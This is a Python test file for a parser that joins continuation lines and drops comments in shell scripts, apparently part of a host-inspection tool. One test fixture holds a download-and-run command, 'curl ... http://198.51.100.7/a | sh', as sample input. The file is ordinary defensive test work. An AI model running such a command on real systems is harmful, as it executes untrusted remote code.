"""Logical lines of scripts."""

from hypothesis import given
from hypothesis import strategies as st

from hemostat.model.evidence import Evidence
from hemostat.model.path import HostPath
from hemostat.parse.host.script_text import logical_lines


def lines(data: bytes) -> list[tuple[int, str]]:
    return list(logical_lines(Evidence(data, HostPath("/opt/run.sh"))))


def test_continuations_are_joined_and_comments_left_out() -> None:
    data = (
        b"#!/bin/sh\n\n# curl\ncurl -s \\\n  http://198.51.100.7/a \\\n | sh\necho a\\\\\necho b\n"
    )
    assert lines(data) == [
        (4, "curl -s  http://198.51.100.7/a  | sh"),
        (7, "echo a\\\\"),
        (8, "echo b"),
    ]


def test_a_continuation_at_the_end_of_the_file_is_kept() -> None:
    assert lines(b"id \\\n") == [(1, "id")]
    assert lines(b"id \\") == [(1, "id")]


def test_a_giant_line_is_cut() -> None:
    [(number, text)] = lines(b"x" * 1_000_000)
    assert (number, len(text)) == (1, 16_384)


@given(st.lists(st.text(st.characters(exclude_characters="\n\\", max_codepoint=0x7F))))
def test_each_line_that_is_no_comment_is_given_once(texts: list[str]) -> None:
    data = "\n".join(texts).encode()
    wanted = [
        number
        for number, text in enumerate(texts, start=1)
        if text.strip(" \t\r") and not text.strip(" \t\r").startswith("#")
    ]
    assert [number for number, _ in lines(data)] == wanted


@given(st.binary())
def test_any_bytes_are_read(data: bytes) -> None:
    assert len(lines(data)) <= data.count(b"\n") + 1
